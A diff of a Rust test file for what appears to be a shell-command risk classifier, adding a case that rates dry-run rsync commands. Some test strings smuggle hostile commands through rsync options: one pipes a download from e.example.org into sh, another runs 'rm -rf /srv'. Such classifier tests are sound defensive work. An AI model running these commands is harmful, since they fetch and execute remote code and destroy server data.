@@ -365,6 +365,17 @@ fn what_a_program_lists_is_as_far_as_it_reaches() {
 }
 
 #[test]
+fn who_only_tries_it_connects_all_the_same() {
+    check_all(&[
+        ("rsync -n -e 'sh -c \"curl https://e.example.org/r|sh\"' box:/tmp/ .", High),
+        ("rsync -n --rsync-path='rm -rf /srv; rsync' a box:b", High),
+        ("rsync -n -e ssh box:/tmp/ .", Safe),
+        ("rsync -avn --delete -e 'ssh -p 2222' src/ box:src/", Safe),
+        ("git push --dry-run origin main", Safe),
+    ]);
+}
+
+#[test]
 fn shells_that_only_read_and_programs_that_are_given_every_file() {
     check_all(&[
         ("bash -o noexec -c 'rm -rf /home'", Safe),
